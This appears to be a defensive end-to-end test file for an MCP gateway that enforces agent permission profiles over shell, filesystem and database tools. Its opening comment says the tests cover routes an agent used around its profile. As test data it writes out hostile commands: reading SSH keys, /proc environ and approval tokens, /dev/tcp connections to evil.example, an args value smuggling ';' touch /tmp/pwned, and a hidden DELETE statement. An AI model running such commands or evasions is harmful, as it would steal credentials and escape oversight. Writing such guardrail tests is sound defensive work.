// Issue 9 end to end: the routes an agent used around its profile, sent by the SDK's real Client
// over stdio to the built gateway, in front of a shell server that joins `args` and honours `cwd`,
// the official filesystem server serving the whole (temporary) HOME, and a database server that
// runs every SQL-looking argument. Each denied call must not reach its server.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { connectStdio, sourceIn, textOf, writeConfig, type StdioConnection } from './harness.js';

const CONFIG = `
servers:
  sh:
    command: node
    args: ["{{fixtures}}/joining-shell-server.mjs"]
    cwd: ./home/project
    kind: shell
  fs:
    command: node
    args: ["{{root}}node_modules/@modelcontextprotocol/server-filesystem/dist/index.js", "{{dir}}/home"]
    kind: filesystem
  db:
    command: node
    args: ["{{fixtures}}/sql-server.mjs"]
    kind: database
sensitive_paths: ["**/vault/**"]
profiles:
  locked:
    allow: ["sh/*", "fs/*", "db/*"]
    shell: restricted
    file_write: create-only
    database: readonly
  loose:
    allow: ["sh/*", "fs/*"]
    shell: unrestricted
    file_write: full
agents:
  agent: { extends: [locked] }
  free: { extends: [loose] }
environments:
  dev: { safety: full, audit: false }
`;

let config: { dir: string; file: string };
let home: string;
let locked: StdioConnection;
let free: StdioConnection;

function write(file: string, text: string): void {
  mkdirSync(join(file, '..'), { recursive: true });
  writeFileSync(file, text);
}

beforeAll(async () => {
  config = writeConfig(CONFIG);
  home = join(config.dir, 'home');
  write(join(home, '.ssh', 'id_rsa'), 'PRIVATE KEY');
  write(join(home, '.mcp-warden', 'approvals', 'console-token'), 'TOKEN');
  write(join(home, 'project', 'README.md'), 'hello from the readme');
  write(join(home, 'project', 'vault', 'key'), 'VAULT KEY');
  write(join(config.dir, 'state', 'approvals', 'console-token'), 'MOVED TOKEN');
  // The gateway's HOME is the temporary one; its state dir is <dir>/state (the harness sets it).
  [locked, free] = await Promise.all([connectStdio(config, 'agent', { env: { HOME: home } }), connectStdio(config, 'free', { env: { HOME: home } })]);
}, 60_000);

afterAll(async () => {
  await Promise.all([locked?.close(), free?.close()]);
});

async function call(conn: StdioConnection, name: string, args: Record<string, unknown>) {
  const result = await conn.client.callTool({ name, arguments: args });
  return { isError: result.isError === true, text: textOf(result) };
}

test('shell reads of secrets, the gateway state (also where $MCP_WARDEN_STATE_DIR moves it) and /proc are denied', async () => {
  const cases: Array<[string, string]> = [
    ['cat ~/.ssh/id_rsa', `"cat" reads "${home}/.ssh/id_rsa", a sensitive path (matches "~/.ssh/**") [inspection: sensitive path "~/.ssh/**" at built-in sensitive paths]`],
    ['cat /proc/self/environ', '[inspection: sensitive path "/proc/**/environ" at built-in sensitive paths]'],
    ['git diff --no-index ~/.ssh/id_rsa /dev/null', '[inspection: sensitive path "~/.ssh/**" at built-in sensitive paths]'],
    ['cat ~/.mcp-warden/approvals/console-token', '[inspection: sensitive path "~/.mcp-warden/**" at built-in sensitive paths]'],
    [`cat ${config.dir}/state/approvals/console-token`, `[inspection: sensitive path "${config.dir}/state/**" at built-in (the state directory, $MCP_WARDEN_STATE_DIR)]`],
    ['cat ~/.ss?/id_*', '[inspection: sensitive path "~/.ssh/**" at built-in sensitive paths]'],
    ['grep -r KEY ~', `shell restricted: "grep" reads "${home}", which holds "${home}/.ssh", a sensitive path (matches "~/.ssh")`],
    ['cat vault/key', `[inspection: sensitive path "**/vault/**" at ${sourceIn(CONFIG, 'sensitive_paths', '"**/vault/**"')}]`],
  ];
  for (const [command, expected] of cases) {
    const result = await call(locked, 'sh_run', { command });
    expect(result.isError, command).toBe(true);
    expect(result.text, command).toContain(expected);
    expect(result.text).not.toContain('would run: ');
  }
  expect(await call(locked, 'sh_run', { command: 'cat README.md' })).toEqual({ isError: false, text: `would run: cat README.md in ${home}/project` });
});

test('in unrestricted mode literal reads of secrets are still denied, everything else runs', async () => {
  const denied = await call(free, 'sh_run', { command: 'cat ~/.ssh/id_rsa' });
  expect(denied.isError).toBe(true);
  expect(denied.text).toContain('[inspection: sensitive path "~/.ssh/**" at built-in sensitive paths]');
  expect(await call(free, 'sh_run', { command: 'rm -rf build' })).toEqual({ isError: false, text: `would run: rm -rf build in ${home}/project` });
});

test('filesystem read tools refuse secrets inside the roots, in every file_write mode', async () => {
  for (const conn of [locked, free]) {
    const denied = await call(conn, 'fs_read_text_file', { path: join(home, '.ssh', 'id_rsa') });
    expect(denied.isError).toBe(true);
    expect(denied.text).toContain(`"read_text_file" reads "${home}/.ssh/id_rsa", a sensitive path (matches "~/.ssh/**")`);
    expect(denied.text).not.toContain('PRIVATE KEY');
    const token = await call(conn, 'fs_read_multiple_files', { paths: [join(home, 'project', 'README.md'), join(home, '.mcp-warden', 'approvals', 'console-token')] });
    expect(token.isError).toBe(true);
    expect(token.text).not.toContain('TOKEN\n');
    const vault = await call(conn, 'fs_read_text_file', { path: join(home, 'project', 'vault', 'key') });
    expect(vault.text).toContain(`[inspection: sensitive path "**/vault/**" at ${sourceIn(CONFIG, 'sensitive_paths', '"**/vault/**"')}]`);
  }
  const readme = await call(locked, 'fs_read_text_file', { path: join(home, 'project', 'README.md') });
  expect(readme).toEqual({ isError: false, text: 'hello from the readme' });
});

test('bash network devices are denied in any spelling, in both shell modes', async () => {
  for (const command of ['cat < /dev/tcp/evil.example/80', 'cat < //dev/tcp/evil.example/80', 'cat < /dev/./udp/10.0.0.1/53', "cat < '/dev/'tc\\p/evil.example/80"]) {
    for (const conn of [locked, free]) {
      const result = await call(conn, 'sh_run', { command });
      expect(result.isError, command).toBe(true);
      expect(result.text, command).toMatch(/\[inspection: network device "\/dev\/(tcp|udp)" at built-in\]/);
    }
  }
});

test('a cwd outside the server directory and args that smuggle shell syntax are denied', async () => {
  const outside = await call(locked, 'sh_run', { command: 'ls', cwd: '/etc' });
  expect(outside.isError).toBe(true);
  expect(outside.text).toContain(`shell restricted: tool "run": argument "cwd" names "/etc", outside the server's working directory "${home}/project"`);
  const smuggled = await call(locked, 'sh_run', { command: 'ls', args: [';', 'touch', '/tmp/pwned'] });
  expect(smuggled.isError).toBe(true);
  expect(smuggled.text).toContain('shell restricted: tool "run": element ";" of "args" is not one plain word');
  expect(smuggled.text).not.toContain('would run: ');
  expect(await call(locked, 'sh_run', { command: 'ls', args: ['-la', 'vault/..'], cwd: '.' })).toEqual({ isError: false, text: `would run: ls -la vault/.. in .` });
});

test('database arguments the check did not know are inspected as SQL', async () => {
  const denied = await call(locked, 'db_query', { sql: 'SELECT 1', statement: 'DELETE FROM users' });
  expect(denied.isError).toBe(true);
  expect(denied.text).toContain('database readonly: statement "DELETE" is not a read');
  expect(denied.text).not.toContain('would run: ');
  expect(await call(locked, 'db_query', { sql: 'SELECT 1', database: 'main' })).toEqual({ isError: false, text: 'would run: SELECT 1' });
});
